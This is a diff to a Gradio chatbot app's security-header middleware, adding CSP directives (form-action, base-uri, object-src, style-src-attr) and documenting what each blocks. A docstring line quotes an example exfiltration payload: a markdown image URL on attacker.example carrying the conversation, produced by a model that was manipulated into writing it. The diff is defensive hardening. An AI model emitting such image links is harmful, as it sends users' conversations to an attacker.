@@ -13,6 +13,19 @@
   HTML from users and models, images included. A reply a model was talked into writing
   (`![](https://attacker.example/?q=<the conversation>)`), or a shared link holding one,
   would make every viewer's browser send that URL out. Only this origin's images load.
+- CSP `form-action 'self'`: no form on the page can post anywhere else (a phishing form
+  in a shared link, were one to get past the Chatbot's escaping, cannot send a password
+  out); `base-uri 'self'`, `object-src 'none'`: no `<base>` re-pointing relative URLs, no
+  plugins.
+- CSP `style-src-attr 'none'`: `style="..."` attributes (and `setAttribute("style")`,
+  `style.cssText`) are refused, so content cannot make a full-window fixed overlay.
+  Setting single properties (`element.style.height = ...`) is not restricted by CSP
+  (MDN, "CSP: style-src-attr", CSP Level 3), and that is how Gradio 6 sizes its
+  components; it also injects `<style>` elements at run time (theme and component CSS),
+  hence `style-src 'self' 'unsafe-inline'`, which applies to elements only once
+  `style-src-attr` is given. Measured in Chromium: the only attributes refused are three
+  in Gradio's own footer markup (the footer sits slightly higher); chat, sliders and
+  tabs look the same.
 
 A plain ASGI middleware (not Starlette's BaseHTTPMiddleware, which buffers response
 bodies): it only rewrites the start of each response, so streams stay streams. A header
@@ -38,7 +51,9 @@ SECURITY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
     (b"x-frame-options", b"SAMEORIGIN"),
     (
         b"content-security-policy",
-        b"frame-ancestors 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:",
+        b"frame-ancestors 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:; "
+        b"form-action 'self'; base-uri 'self'; object-src 'none'; "
+        b"style-src 'self' 'unsafe-inline'; style-src-attr 'none'",
     ),
 )
 
